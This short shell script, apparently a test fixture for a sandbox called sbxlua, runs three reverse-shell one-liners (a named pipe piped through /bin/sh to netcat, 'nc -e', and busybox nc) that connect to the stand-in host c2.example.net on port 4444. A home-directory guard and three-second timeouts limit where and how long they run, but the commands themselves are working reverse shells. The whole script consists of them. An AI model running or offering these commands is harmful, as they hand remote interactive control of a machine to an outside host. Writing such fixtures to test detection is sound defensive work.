#!/bin/sh
# SPDX-License-Identifier: MIT
# The reverse shell of hosts without bash: sh through a named pipe and
# netcat, and netcat's own -e.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
rm -f /tmp/.f
mkfifo /tmp/.f
timeout 3 sh -c 'cat /tmp/.f | /bin/sh -i 2>&1 | /bin/nc c2.example.net 4444 > /tmp/.f' 2>/dev/null
timeout 3 nc -e /bin/sh c2.example.net 4444 2>/dev/null
timeout 3 busybox nc c2.example.net 4444 -e sh 2>/dev/null
rm -f /tmp/.f
exit 0
